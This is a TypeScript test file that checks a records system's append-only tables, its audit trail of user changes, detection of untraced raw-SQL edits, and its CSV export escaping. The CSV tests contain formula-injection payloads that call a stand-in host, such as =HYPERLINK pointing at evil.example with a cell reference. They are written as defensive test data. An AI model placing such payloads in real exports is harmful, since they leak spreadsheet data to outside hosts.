/**
 * Security items 4 and 8 on the records side: named records are append-only, every change to a
 * user leaves a trace (and one made around the code is reported by `verifyAudit`), the security
 * audit kinds, and CSV cells a spreadsheet would run as formulas.
 */
import { describe, expect, it } from 'vitest';
import type { TransitionCommit } from '../../workflows/api.ts';
import { changeHistoryOf } from '../../worker/records/change-history.ts';
import { auditSummary, auditToCsv, checkpointsToCsv, csvCell } from '../../worker/records/export.ts';
import {
  exportRecord,
  refusalRecord,
  signInFailedRecord,
  signInRecord,
  signOutRecord,
} from '../../worker/records/security-audit.ts';
import type { SqlClient } from '../../worker/records/sql.ts';
import type { AuditEntry, RecordsStore } from '../../worker/records/types.ts';
import { withMemoryStore } from '../support/records.ts';

const PASSWORD = 'correct horse battery staple';
let sql: SqlClient;
let store: RecordsStore;

withMemoryStore((s) => ({ sql, store } = s));

function commitOf(workflowId: string, seq: number, client = 'acme'): TransitionCommit {
  return {
    workflowId,
    procedure: 'lending',
    version: '1.0.0',
    hash: 'a'.repeat(64),
    client,
    record: {
      seq,
      at: new Date(Date.UTC(2025, 0, 1, 0, 0, seq)).toISOString(),
      event: 'APPROVE',
      actor: { id: 'bob', roles: ['quality_manager'] },
      from: ['submitted'],
      to: ['approved'],
      clauses: [],
    },
    effects: [{ kind: 'record', record: 'lending_log', fields: { file: 'F-1' } }],
  };
}

describe('named records and links are append-only', () => {
  it('refuses UPDATE, DELETE and TRUNCATE of procedure_records and instance_links', async () => {
    await store.commit(commitOf('wf-r', 1), [{ workflowId: 'child', procedure: 'case', seq: 1 }]);
    for (const table of ['procedure_records', 'instance_links']) {
      await expect(sql.query(`UPDATE ${table} SET seq = 99`)).rejects.toThrow(/append-only; UPDATE refused/);
      await expect(sql.query(`DELETE FROM ${table}`)).rejects.toThrow(/append-only; DELETE refused/);
      await expect(sql.exec(`TRUNCATE ${table}`)).rejects.toThrow(/append-only; TRUNCATE refused/);
    }
    expect(await store.recordsOf('wf-r')).toMatchObject([{ seq: 1, fields: { file: 'F-1' } }]);
  });
});

describe('user changes leave a trace', () => {
  it('audits each change with its values before and after', async () => {
    await store.createUser(
      { id: 'carol', displayName: 'Carol', roles: ['project_staff'], clients: ['acme'], password: PASSWORD },
      'admin1',
    );
    await store.setRoles('carol', ['quality_manager'], 'admin1');
    await store.assignClients('carol', ['globex'], 'admin1');
    await store.setDisabled('carol', true, 'admin2');
    const acts = (await store.audit({ subject: 'user:carol' })).map((e) => [
      e.body.act,
      e.body.before,
      e.body.after,
    ]);
    const values = { displayName: 'Carol', roles: ['project_staff'], clients: ['acme'], disabled: false };
    expect(acts).toEqual([
      ['user.create', null, values],
      ['user.roles', values, { ...values, roles: ['quality_manager'] }],
      [
        'user.assign',
        { ...values, roles: ['quality_manager'] },
        { ...values, roles: ['quality_manager'], clients: ['globex'] },
      ],
      [
        'user.disable',
        { ...values, roles: ['quality_manager'], clients: ['globex'] },
        { ...values, roles: ['quality_manager'], clients: ['globex'], disabled: true },
      ],
    ]);
  });

  it('keeps old and new rows in change_history (the password hash only as a fingerprint)', async () => {
    await store.setPassword('carol', 'another long passphrase', 'admin1');
    const history = await changeHistoryOf(sql, 'carol');
    const users = history.filter((h) => h.table === 'users');
    expect(users.map((h) => h.op)).toEqual(['INSERT', 'UPDATE', 'UPDATE', 'UPDATE']);
    expect(users[1]).toMatchObject({
      old: { roles: ['project_staff'] },
      new: { roles: ['quality_manager'] },
    });
    const pw = users[3]!;
    expect(pw.old!.password_hash).toMatch(/^md5:[0-9a-f]{12}$/);
    expect(pw.new!.password_hash).not.toBe(pw.old!.password_hash);
    expect(JSON.stringify(history)).not.toContain('argon2id');
    expect(history.filter((h) => h.table === 'user_clients').map((h) => h.op)).toEqual([
      'INSERT',
      'DELETE',
      'INSERT',
    ]);
    await expect(sql.query('DELETE FROM change_history')).rejects.toThrow(/append-only/);
    expect((await store.verifyAudit()).ok).toBe(true);
  });

  it('reports a change made with raw SQL (no audit record in its transaction), with old and new values', async () => {
    await sql.query(`UPDATE users SET roles = '["admin"]' WHERE id = 'carol'`);
    const v = await store.verifyAudit();
    expect(v.ok).toBe(false);
    expect(v.problems).toEqual([
      {
        position: expect.any(Number),
        kind: 'untraced_change',
        message: expect.stringMatching(
          /^users row of "carol" updated at .* by database role postgres with no audit record: roles \["quality_manager"\] → \["admin"\]$/,
        ),
      },
    ]);
  });
});

describe('security audit kinds', () => {
  it('appends sign-in, failed sign-in, sign-out, refusal and export records to the chain', async () => {
    const origin = { ip: '192.0.2.1', userAgent: 'test' };
    const appended: AuditEntry[] = [];
    for (const r of [
      signInRecord('Alice', { method: 'password', ...origin }),
      signInFailedRecord(' Mallory ', { reason: 'unknown_user', ...origin }),
      signOutRecord('alice', { reason: 'user' }),
      refusalRecord({
        actorId: 'alice',
        actorRoles: ['project_staff'],
        subject: 'wf-r',
        event: 'APPROVE',
        code: 'REJECT_ROLE',
        reason: 'project_staff may not send APPROVE',
        client: 'acme',
      }),
      exportRecord({
        actorId: 'auditor1',
        what: 'audit',
        subject: 'client:acme',
        format: 'csv',
        count: 12,
        client: 'acme',
      }),
    ])
      appended.push(await store.appendSecurityRecord(r));
    expect(appended.map((e) => [e.kind, e.subject, e.actorId, auditSummary(e)])).toEqual([
      ['sign_in', 'user:alice', 'alice', 'sign-in password'],
      ['sign_in_failed', 'user:mallory', 'mallory', 'failed sign-in (unknown_user)'],
      ['sign_out', 'user:alice', 'alice', 'sign-out user'],
      ['refusal', 'wf-r', 'alice', 'refused APPROVE: REJECT_ROLE'],
      ['export', 'client:acme', 'auditor1', 'export audit csv (12)'],
    ]);
    expect(appended[0]!.body).toEqual({
      user: 'alice',
      method: 'password',
      ip: '192.0.2.1',
      userAgent: 'test',
    });
    expect(appended[3]).toMatchObject({ client: 'acme', body: { actorRoles: ['project_staff'] } });
    expect((await store.audit({ kind: 'sign_in_failed' })).map((e) => e.subject)).toEqual(['user:mallory']);
    await expect(
      sql.query(`INSERT INTO audit_log (position, kind, subject, actor, at, body, prev_hash, hash)
                 VALUES (100000, 'bogus', 's', 'a', now(), '{}', 'p', 'h')`),
    ).rejects.toThrow(/audit_log_kind_check/);
  });
});

describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['acme', 'acme'],
    ['a=b', 'a=b'],
  ])('%j is written as text', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('escapes a client named =HYPERLINK(…) in an audit export, in every column', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await store.commit(commitOf('-wf', 1, evil), []);
    const csv = auditToCsv(await store.auditOfClient(evil));
    const cells = csv.split('\r\n')[1]!;
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(cells).toMatch(/,'-wf,1,/);
    expect(cells).not.toMatch(/(^|,)"?[=+\-@]/);
    expect(checkpointsToCsv([])).toBe('store_id,position,hash,at,key_id,signature\r\n');
  });
});
